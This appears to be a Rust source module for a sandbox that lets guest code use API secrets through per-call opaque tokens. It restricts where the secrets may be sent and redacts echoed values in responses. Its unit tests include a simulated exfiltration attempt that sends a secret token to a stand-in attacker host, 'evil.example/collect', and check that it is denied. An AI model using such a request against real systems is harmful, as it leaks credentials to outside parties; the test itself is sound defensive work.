//! Secrets a destination uses without ever holding them.
//!
//! Where it sits: beside [`super::http`], on the way out of the sandbox. A
//! destination declares its secrets in the config (`secrets = { api_key = {
//! from = "env:AMP_KEY", hosts = ["https://api2.amplitude.com"] } }`), and
//! its settings name them as `"${secret:api_key}"`. The config reads each value
//! once into [`Secrets`]. Every call into a guest gets a [`Sealed`] view with a
//! fresh random nonce:
//! - the settings the guest reads carry an opaque token in place of each
//!   `${secret:NAME}` ([`Sealed::seal_settings`]), so no guest ever holds a
//!   value, and a token seen in one call (a log line, an event) is worth nothing
//!   in the next;
//! - a request the guest sends has this call's tokens replaced by the values
//!   (URL, headers, `Authorization: Basic` credentials, body), but only when
//!   the request goes to one of that secret's `hosts`; otherwise it is denied
//!   ([`Sealed::open`]);
//! - an answer that carries a value back (a vendor echoing a key in an error)
//!   has it replaced by the token before the guest reads it
//!   ([`Sealed::seal_response`]), and the host's own error texts are redacted
//!   ([`Sealed::redact`]);
//! - the crypto import takes a secret as a key by its name or its token
//!   ([`Sealed::key`]), so a signature can be made with a key the guest never sees;
//! - a secret declared `refreshed_by` another (an OAuth2 access token, by the
//!   refresh token) takes a new value from the answer to a request that
//!   carried that other secret ([`super::oauth`]): the guest runs the vendor's
//!   own refresh code and reads only its token.

use std::path::PathBuf;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Instant;

use arc_swap::ArcSwap;

use base64::Engine as _;

use super::exchange::{Error, Request, Response};
use crate::allowlist::Allowlist;

/// How settings name a secret: `${secret:NAME}`.
pub const PLACEHOLDER: (&str, &str) = ("${secret:", "}");

/// The shortest value accepted: a shorter one could not be told apart from
/// other text when answers are redacted.
pub const MIN_VALUE_CHARS: usize = 8;

/// One secret of a destination.
pub struct Secret {
    /// Its name in the config (`[a-z0-9_]`).
    pub name: String,
    /// The value, read once from the environment or a file (or, for a
    /// refreshed secret, the latest value a refresh gave).
    value: ArcSwap<String>,
    /// Where a request carrying it may go.
    hosts: Allowlist,
    /// For an OAuth2 access token: how it is refreshed.
    pub(super) refresh: Option<Refresh>,
}

/// How a refreshed secret is refreshed, and when it last was (the refresh
/// itself is [`super::oauth`]'s).
pub struct Refresh {
    /// The secret whose presence marks a request as a refresh (the refresh token).
    pub(super) by: String,
    /// Where its values are kept across restarts (set once, from the config).
    pub(super) dir: OnceLock<PathBuf>,
    /// When it was last refreshed.
    pub(super) last: Mutex<Option<Instant>>,
    /// One refresh at a time.
    pub(super) gate: tokio::sync::Mutex<()>,
}

impl Refresh {
    /// Refreshed by requests that carry secret `by`.
    pub fn new(by: String) -> Refresh {
        Refresh {
            by,
            dir: OnceLock::new(),
            last: Mutex::new(None),
            gate: tokio::sync::Mutex::new(()),
        }
    }
}

impl Secret {
    /// A secret `name` with `value`, that may be sent to `hosts`.
    pub fn new(name: String, value: String, hosts: Allowlist) -> Secret {
        Secret {
            name,
            value: ArcSwap::from_pointee(value),
            hosts,
            refresh: None,
        }
    }

    /// A secret whose value a refresh replaces: the answer to a request that
    /// carried secret `by` (`value` may be empty until then).
    pub fn refreshed(name: String, value: String, hosts: Allowlist, by: String) -> Secret {
        Secret {
            refresh: Some(Refresh::new(by)),
            ..Secret::new(name, value, hosts)
        }
    }

    /// The value now.
    pub(super) fn value(&self) -> Arc<String> {
        self.value.load_full()
    }

    /// Replace the value (a refresh).
    pub(super) fn set_value(&self, value: String) {
        self.value.store(Arc::new(value));
    }
}

/// A destination's secrets (cheap to clone). `Debug` shows names only.
#[derive(Clone, Default)]
pub struct Secrets {
    pub(super) list: Arc<[Secret]>,
}

impl std::fmt::Debug for Secrets {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_list()
            .entries(self.list.iter().map(|s| &s.name))
            .finish()
    }
}

impl PartialEq for Secrets {
    fn eq(&self, other: &Secrets) -> bool {
        self.list.len() == other.list.len()
            && self
                .list
                .iter()
                .zip(other.list.iter())
                .all(|(a, b)| a.name == b.name && a.value() == b.value() && a.hosts == b.hosts)
    }
}

impl Secrets {
    /// These secrets.
    pub fn new(list: Vec<Secret>) -> Secrets {
        Secrets { list: list.into() }
    }

    /// Whether there are none.
    pub fn is_empty(&self) -> bool {
        self.list.is_empty()
    }

    /// Their names.
    pub fn names(&self) -> impl Iterator<Item = &str> {
        self.list.iter().map(|s| s.name.as_str())
    }

    /// `text` with every value (in any of the forms of [`forms`]) replaced by
    /// `[secret NAME]` (for texts the host writes itself: logs, reasons, recordings).
    pub fn redact(&self, text: &str) -> String {
        let mut out = text.to_string();
        for s in self.list.iter() {
            for form in forms(&s.value()) {
                if out.contains(&form) {
                    out = out.replace(&form, &format!("[secret {}]", s.name));
                }
            }
        }
        out
    }
}

/// `text` with every call's secret token (`sy-secret-NAME-<nonce>`) written
/// back as `${secret:NAME}`, whichever call made it: for texts kept after the
/// call (a recording, a shadow's differences).
pub fn name_any_tokens(text: &str) -> String {
    const PREFIX: &str = "sy-secret-";
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find(PREFIX) {
        out.push_str(&rest[..at]);
        let after = &rest[at + PREFIX.len()..];
        let name_len = after
            .bytes()
            .take_while(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || *b == b'_')
            .count();
        let tail = &after[name_len..];
        let nonce_ok = name_len > 0
            && tail.starts_with('-')
            && tail.len() > 32
            && tail.as_bytes()[1..33].iter().all(u8::is_ascii_hexdigit);
        if nonce_ok {
            out.push_str(&format!(
                "{}{}{}",
                PLACEHOLDER.0,
                &after[..name_len],
                PLACEHOLDER.1
            ));
            rest = &tail[33..];
        } else {
            out.push_str(PREFIX);
            rest = after;
        }
    }
    out.push_str(rest);
    out
}

/// The names of the `${secret:NAME}` placeholders in `text`, in order.
pub fn placeholders(text: &str) -> Vec<&str> {
    let mut names = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find(PLACEHOLDER.0) {
        let after = &rest[at + PLACEHOLDER.0.len()..];
        match after.find(PLACEHOLDER.1) {
            Some(end) => {
                names.push(&after[..end]);
                rest = &after[end + 1..];
            }
            None => break,
        }
    }
    names
}

/// A request opened for sending, and what the sending must respect.
#[derive(Debug)]
pub struct Opened {
    /// The request with the values in place of this call's tokens.
    pub request: Request,
    /// The hosts of each secret it carries: every redirect hop must be one of
    /// each's (the first hop was checked by [`Sealed::open`]). Empty when it
    /// carries none.
    pub bound: Vec<Allowlist>,
    /// The names of the secrets it carries.
    pub carried: Vec<String>,
    /// `Authorization: Basic` values as sent, and as the guest wrote them, so
    /// an answer that echoes one is given back the guest's.
    basic: Vec<(String, String)>,
}

impl Opened {
    /// Whether it carries a secret.
    pub fn carries_secrets(&self) -> bool {
        !self.bound.is_empty()
    }
}

/// The secrets of one call into a guest, under a nonce of its own.
pub struct Sealed {
    /// 128 random bits, hex: part of every token of this call.
    nonce: String,
    /// The destination's secrets.
    secrets: Secrets,
}

impl Sealed {
    /// The secrets behind this view.
    pub(super) fn secrets(&self) -> &Secrets {
        &self.secrets
    }

    /// A fresh view of `secrets` for one call.
    pub fn new(secrets: Secrets) -> Sealed {
        Sealed {
            nonce: format!("{:032x}", rand::random::<u128>()),
            secrets,
        }
    }

    /// What the guest sees in place of secret `name` during this call.
    fn token(&self, name: &str) -> String {
        format!("sy-secret-{name}-{}", self.nonce)
    }

    /// The settings as the guest reads them: each `${secret:NAME}` becomes this
    /// call's token for NAME (the config refused names it does not declare).
    pub fn seal_settings(&self, settings: &str) -> String {
        let mut out = settings.to_string();
        for s in self.secrets.list.iter() {
            let placeholder = format!("{}{}{}", PLACEHOLDER.0, s.name, PLACEHOLDER.1);
            if out.contains(&placeholder) {
                out = out.replace(&placeholder, &self.token(&s.name));
            }
        }
        out
    }

    /// `text` with this call's tokens written back as `${secret:NAME}`: what
    /// the guest wrote, comparable with another call's (shadow, replay).
    pub fn name_tokens(&self, text: &str) -> String {
        let mut out = text.to_string();
        for s in self.secrets.list.iter() {
            let token = self.token(&s.name);
            if out.contains(&token) {
                let placeholder = format!("{}{}{}", PLACEHOLDER.0, s.name, PLACEHOLDER.1);
                out = out.replace(&token, &placeholder);
            }
        }
        out
    }

    /// A request with this call's tokens written back as `${secret:NAME}` (URL,
    /// headers, and a UTF-8 body).
    pub fn name_request(&self, mut req: Request) -> Request {
        req.url = self.name_tokens(&req.url);
        for (_, v) in req.headers.iter_mut() {
            *v = self.name_tokens(v);
        }
        if let Ok(text) = std::str::from_utf8(&req.body) {
            let named = self.name_tokens(text);
            if named != text {
                req.body = named.into_bytes();
            }
        }
        req
    }

    /// A secret's value as a key for the crypto import, by its name or its token.
    pub fn key(&self, name_or_token: &str) -> Option<Arc<String>> {
        self.secrets
            .list
            .iter()
            .find(|s| s.name == name_or_token || self.token(&s.name) == name_or_token)
            .map(Secret::value)
    }

    /// The request as it is sent: this call's tokens replaced by their values
    /// where the request's URL is one of each secret's hosts; denied otherwise,
    /// and when a token is in the URL's host or credentials. A request that
    /// carries a secret asks for an uncompressed answer (`Accept-Encoding:
    /// identity`), so that an echo of the value can be found in it.
    pub fn open(&self, mut req: Request) -> Result<Opened, Error> {
        let carries = |token: &str| {
            req.url.contains(token)
                || req.headers.iter().any(|(k, v)| {
                    v.contains(token) || basic_credentials(k, v).is_some_and(|c| c.contains(token))
                })
                || find(&req.body, token.as_bytes()).is_some()
        };
        let used: Vec<(&Secret, String)> = self
            .secrets
            .list
            .iter()
            .map(|s| (s, self.token(&s.name)))
            .filter(|(_, token)| carries(token))
            .collect();
        if used.is_empty() {
            return Ok(Opened {
                request: req,
                bound: Vec::new(),
                carried: Vec::new(),
                basic: Vec::new(),
            });
        }
        let url = reqwest::Url::parse(&req.url)
            .map_err(|_| Error::Denied("a request carrying a secret has a bad URL".into()))?;
        for (_, token) in &used {
            let in_authority = url.host_str().is_some_and(|h| h.contains(token))
                || url.username().contains(token)
                || url.password().is_some_and(|p| p.contains(token));
            if in_authority {
                return Err(Error::Denied(
                    "a secret may go in a URL's path or query, not in its host or credentials"
                        .into(),
                ));
            }
        }
        for (s, _) in &used {
            if s.hosts.check(&url).is_err() {
                return Err(Error::Denied(format!(
                    "secret `{}` may not be sent to {}://{}: not one of its hosts",
                    s.name,
                    url.scheme(),
                    url.host_str().unwrap_or("")
                )));
            }
        }
        let content_type = req
            .headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case("content-type"))
            .map(|(_, v)| v.to_ascii_lowercase())
            .unwrap_or_default();
        let mut basic = Vec::new();
        for (s, token) in &used {
            let value = s.value();
            let value = value.as_str();
            req.url = req.url.replace(token, &percent_encode(value));
            for (k, v) in req.headers.iter_mut() {
                if let Some(credentials) = basic_credentials(k, v).filter(|c| c.contains(token)) {
                    let opened = credentials.replace(token, value);
                    let guest = v.trim().split_once(' ').map(|(_, b)| b.trim().to_string());
                    let sent = base64::engine::general_purpose::STANDARD.encode(opened);
                    if let Some(guest) = guest {
                        basic.push((sent.clone(), guest));
                    }
                    *v = format!("Basic {sent}");
                } else if v.contains(token) {
                    *v = v.replace(token, value);
                }
            }
            let value = if content_type.contains("json") {
                json_escaped(value)
            } else if content_type.contains("x-www-form-urlencoded") {
                percent_encode(value)
            } else {
                value.to_string()
            };
            req.body = replace(&req.body, token.as_bytes(), value.as_bytes());
        }
        // The values change the body's size: the client writes its own Content-Length.
        req.headers.retain(|(k, _)| {
            !k.eq_ignore_ascii_case("accept-encoding") && !k.eq_ignore_ascii_case("content-length")
        });
        req.headers
            .push(("accept-encoding".into(), "identity".into()));
        Ok(Opened {
            request: req,
            bound: used.iter().map(|(s, _)| s.hosts.clone()).collect(),
            carried: used.iter().map(|(s, _)| s.name.clone()).collect(),
            basic,
        })
    }

    /// The answer to `opened` as the guest reads it. When the request carried
    /// a secret, any value in the answer (as sent, JSON-escaped in the usual
    /// ways, percent-encoded, base64, or the Basic credentials sent) is
    /// replaced by this call's token, and a compressed answer (which could
    /// hide one) is refused. An answer to a request that carried none is
    /// passed on as it is, so sealing cannot be used to test guesses.
    pub fn seal_response(&self, opened: &Opened, mut resp: Response) -> Result<Response, Error> {
        if !opened.carries_secrets() {
            return Ok(resp);
        }
        let encoded = resp
            .headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case("content-encoding"))
            .map(|(_, v)| v.trim().to_ascii_lowercase())
            .filter(|v| !v.is_empty() && v != "identity");
        if let Some(encoding) = encoded {
            return Err(Error::Connection(format!(
                "the answer is compressed ({encoding}) although the request asked for none; it is not passed on, as it could hide a secret"
            )));
        }
        let mut pairs: Vec<(String, String)> = opened.basic.clone();
        for s in self.secrets.list.iter() {
            let token = self.token(&s.name);
            for form in forms(&s.value()) {
                pairs.push((form, token.clone()));
            }
        }
        // Longest first, so that a form inside another is not replaced halfway.
        pairs.sort_by_key(|(form, _)| std::cmp::Reverse(form.len()));
        for (form, token) in &pairs {
            resp.body = replace(&resp.body, form.as_bytes(), token.as_bytes());
            for (_, v) in resp.headers.iter_mut() {
                if v.contains(form.as_str()) {
                    *v = v.replace(form.as_str(), token);
                }
            }
        }
        Ok(resp)
    }

    /// `text` with every value replaced by `[secret NAME]`.
    pub fn redact(&self, text: &str) -> String {
        self.secrets.redact(text)
    }
}

/// The `user:password` of an `Authorization: Basic` header, decoded.
fn basic_credentials(name: &str, value: &str) -> Option<String> {
    if !name.eq_ignore_ascii_case("authorization") {
        return None;
    }
    let (scheme, encoded) = value.trim().split_once(' ')?;
    if !scheme.eq_ignore_ascii_case("basic") {
        return None;
    }
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(encoded.trim())
        .ok()?;
    String::from_utf8(bytes).ok()
}

/// The ways a value can be written back: as it is, JSON-escaped (as serde
/// does it, with `/` as `\/`, and with `<`, `>`, `&` as `\u00XX`),
/// percent-encoded (upper- and lower-case hex) and in base64.
fn forms(value: &str) -> Vec<String> {
    // A refreshed secret before its first refresh has no value to find.
    if value.is_empty() {
        return Vec::new();
    }
    let json = json_escaped(value);
    let upper = percent_encode(value);
    // Lower-case hex: only the two digits after each `%` change.
    let mut lower = String::with_capacity(upper.len());
    let mut digits = 0;
    for c in upper.chars() {
        if c == '%' {
            digits = 2;
            lower.push(c);
        } else if digits > 0 {
            digits -= 1;
            lower.push(c.to_ascii_lowercase());
        } else {
            lower.push(c);
        }
    }
    let mut all = vec![
        value.to_string(),
        json.replace('/', "\\/"),
        json.replace('<', "\\u003c")
            .replace('>', "\\u003e")
            .replace('&', "\\u0026"),
        json,
        upper,
        lower,
        base64::engine::general_purpose::STANDARD.encode(value),
    ];
    all.sort();
    all.dedup();
    all
}

/// `value` as it appears inside a JSON string (without the quotes).
fn json_escaped(value: &str) -> String {
    let quoted = serde_json::Value::String(value.to_string()).to_string();
    quoted[1..quoted.len() - 1].to_string()
}

/// `value` percent-encoded for a URL query or a form body (all but RFC 3986's
/// unreserved characters, upper-case hex).
fn percent_encode(value: &str) -> String {
    percent_encoding::utf8_percent_encode(value, super::NOT_UNRESERVED).to_string()
}

/// Where `needle` first occurs in `hay` (a linear-time search: answers are up to 1 MiB).
fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() {
        return None;
    }
    memchr::memmem::find(hay, needle)
}

/// `hay` with every `needle` replaced by `with`.
fn replace(hay: &[u8], needle: &[u8], with: &[u8]) -> Vec<u8> {
    let Some(first) = find(hay, needle) else {
        return hay.to_vec();
    };
    let mut out = Vec::with_capacity(hay.len() + with.len());
    out.extend_from_slice(&hay[..first]);
    out.extend_from_slice(with);
    let mut rest = &hay[first + needle.len()..];
    while let Some(at) = find(rest, needle) {
        out.extend_from_slice(&rest[..at]);
        out.extend_from_slice(with);
        rest = &rest[at + needle.len()..];
    }
    out.extend_from_slice(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn any_calls_tokens_are_named_back() {
        let sealed = Sealed::new(Secrets::default());
        let t = format!(
            "key {} and sy-secret-x and sy-secret-api_key-{}",
            sealed.token("api_key"),
            "0".repeat(32)
        );
        assert_eq!(
            name_any_tokens(&t),
            "key ${secret:api_key} and sy-secret-x and ${secret:api_key}"
        );
    }

    const KEY: &str = "amp-key-\"q\"/s3cr3t";

    fn secrets() -> Secrets {
        Secrets::new(vec![Secret::new(
            "api_key".into(),
            KEY.into(),
            Allowlist::parse(&["https://api2.amplitude.com".to_string()]).unwrap(),
        )])
    }

    fn request(url: &str, headers: &[(&str, &str)], body: &str) -> Request {
        Request {
            method: "POST".into(),
            url: url.into(),
            headers: headers
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            body: body.as_bytes().to_vec(),
        }
    }

    fn basic(credentials: &str) -> String {
        format!(
            "Basic {}",
            base64::engine::general_purpose::STANDARD.encode(credentials)
        )
    }

    #[test]
    fn the_guest_reads_a_token_and_the_vendor_gets_the_value() {
        let sealed = Sealed::new(secrets());
        let settings = sealed.seal_settings(r#"{"api_key":"${secret:api_key}","n":1}"#);
        assert!(
            !settings.contains(KEY) && !settings.contains("${secret:"),
            "{settings}"
        );
        let token: String = serde_json::from_str::<serde_json::Value>(&settings).unwrap()
            ["api_key"]
            .as_str()
            .unwrap()
            .to_string();
        let body = format!(r#"{{"api_key":"{token}","events":[]}}"#);
        let opened = sealed
            .open(request(
                &format!("https://api2.amplitude.com/2/httpapi?key={token}"),
                &[
                    ("content-type", "application/json"),
                    ("x-key", &token),
                    ("authorization", &basic(&format!("u:{token}"))),
                    ("Accept-Encoding", "gzip"),
                ],
                &body,
            ))
            .unwrap();
        assert!(opened.carries_secrets());
        let sent = &opened.request;
        let sent_body: serde_json::Value = serde_json::from_slice(&sent.body).unwrap();
        assert_eq!(sent_body["api_key"], KEY, "JSON-escaped into the body");
        assert!(
            sent.url.ends_with("key=amp-key-%22q%22%2Fs3cr3t"),
            "{}",
            sent.url
        );
        assert_eq!(sent.headers[1].1, KEY);
        assert_eq!(
            basic_credentials("authorization", &sent.headers[2].1).unwrap(),
            format!("u:{KEY}")
        );
        // The answer comes back uncompressed, so an echo can be found in it.
        let encodings: Vec<&str> = sent
            .headers
            .iter()
            .filter(|(k, _)| k.eq_ignore_ascii_case("accept-encoding"))
            .map(|(_, v)| v.as_str())
            .collect();
        assert_eq!(encodings, ["identity"]);
        assert_eq!(sealed.key(&token).as_deref().map(String::as_str), Some(KEY));
        assert_eq!(
            sealed.key("api_key").as_deref().map(String::as_str),
            Some(KEY)
        );
        assert_eq!(sealed.key("other"), None);
    }

    #[test]
    fn a_token_bound_for_another_host_or_in_a_hosts_name_is_denied() {
        let sealed = Sealed::new(secrets());
        let token = sealed.token("api_key");
        let err = sealed
            .open(request("https://evil.example/collect", &[], &token))
            .unwrap_err();
        assert!(
            matches!(&err, Error::Denied(why) if why.contains("secret `api_key` may not be sent to https://evil.example")),
            "{err:?}"
        );
        for url in [
            format!("https://{token}.api2.amplitude.com/"),
            format!("https://{token}@api2.amplitude.com/"),
            format!("https://u:{token}@api2.amplitude.com/"),
        ] {
            let err = sealed.open(request(&url, &[], "")).unwrap_err();
            assert!(
                matches!(&err, Error::Denied(why) if why.contains("not in its host or credentials")),
                "{url}: {err:?}"
            );
        }
        // The placeholder itself, and another call's token, are just text.
        let other = Sealed::new(secrets()).token("api_key");
        let body = format!("${{secret:api_key}} {other}");
        let opened = sealed
            .open(request("https://evil.example/collect", &[], &body))
            .unwrap();
        assert!(!opened.carries_secrets());
        assert_eq!(opened.request.body, body.as_bytes());
    }

    #[test]
    fn an_echoed_value_in_any_common_form_reaches_the_guest_as_the_token() {
        let sealed = Sealed::new(secrets());
        let token = sealed.token("api_key");
        let opened = sealed
            .open(request(
                "https://api2.amplitude.com/x",
                &[("authorization", &basic(&format!("u:{token}")))],
                "",
            ))
            .unwrap();
        let sent_basic = opened.request.headers[0].1.clone();
        let echoes = [
            KEY.to_string(),
            json_escaped(KEY),
            json_escaped(KEY).replace('/', "\\/"),
            percent_encode(KEY),
            percent_encode(KEY).to_ascii_lowercase(),
            base64::engine::general_purpose::STANDARD.encode(KEY),
            sent_basic.clone(),
        ];
        for echo in &echoes {
            let resp = sealed
                .seal_response(
                    &opened,
                    Response {
                        status: 401,
                        headers: vec![("x-echo".into(), echo.clone())],
                        body: format!(r#"{{"error":"invalid key {echo}"}}"#).into_bytes(),
                    },
                )
                .unwrap();
            let body = String::from_utf8(resp.body).unwrap();
            for form in &echoes {
                assert!(!body.contains(form.as_str()), "{echo}: {body}");
                assert!(!resp.headers[0].1.contains(form.as_str()), "{echo}");
            }
        }
        // A compressed answer could hide one: refused.
        let zipped = Response {
            status: 200,
            headers: vec![("content-encoding".into(), "gzip".into())],
            body: vec![0x1f, 0x8b],
        };
        assert!(matches!(
            sealed.seal_response(&opened, zipped.clone()),
            Err(Error::Connection(why)) if why.contains("compressed")
        ));
        // An answer to a request without a secret is not touched: no guessing oracle.
        let plain = sealed
            .open(request("https://api2.amplitude.com/x", &[], KEY))
            .unwrap();
        let echoed = Response {
            status: 200,
            headers: vec![],
            body: KEY.as_bytes().to_vec(),
        };
        assert_eq!(
            sealed.seal_response(&plain, echoed).unwrap().body,
            KEY.as_bytes()
        );
        assert!(sealed.seal_response(&plain, zipped).is_ok());
        assert_eq!(
            sealed.redact(&format!(
                "connect to https://x/?k={} failed ({KEY})",
                percent_encode(KEY)
            )),
            "connect to https://x/?k=[secret api_key] failed ([secret api_key])"
        );
    }

    #[test]
    fn placeholders_are_found_in_order() {
        assert_eq!(
            placeholders("a ${secret:one} b ${secret:two}${secret:"),
            ["one", "two"]
        );
        assert!(placeholders("${SECRET}").is_empty());
        assert_eq!(format!("{:?}", secrets()), r#"["api_key"]"#);
    }
}
